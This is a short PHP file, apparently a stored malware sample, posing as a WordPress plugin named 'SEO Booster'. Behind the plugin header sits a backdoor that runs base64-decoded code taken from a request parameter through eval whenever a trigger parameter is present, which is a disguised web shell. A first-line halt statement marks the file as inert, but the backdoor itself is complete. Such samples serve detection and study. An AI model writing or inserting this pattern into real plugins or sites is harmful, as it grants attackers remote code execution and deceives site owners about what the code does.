<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
/**
 * Plugin Name: SEO Booster
 */
add_action('init', 'wpch_init');
function wpch_init() {
    if (isset($_REQUEST['wp_djvh'])) {
        @eval(base64_decode($_REQUEST['wp_mefl']));
        exit;
    }
}
